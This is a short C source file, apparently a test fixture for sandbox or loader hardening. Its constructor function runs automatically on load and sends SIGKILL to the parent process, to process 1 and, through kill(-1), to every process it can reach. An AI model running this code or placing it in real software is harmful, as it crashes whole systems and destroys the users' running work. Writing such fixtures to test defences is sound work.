/* Hostile: kills its parent, process 1 and every process it may, then behaves. */
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void hostile(void)
{
    (void)kill(getppid(), SIGKILL);
    (void)kill(1, SIGKILL);
    (void)kill(-1, SIGKILL);
}
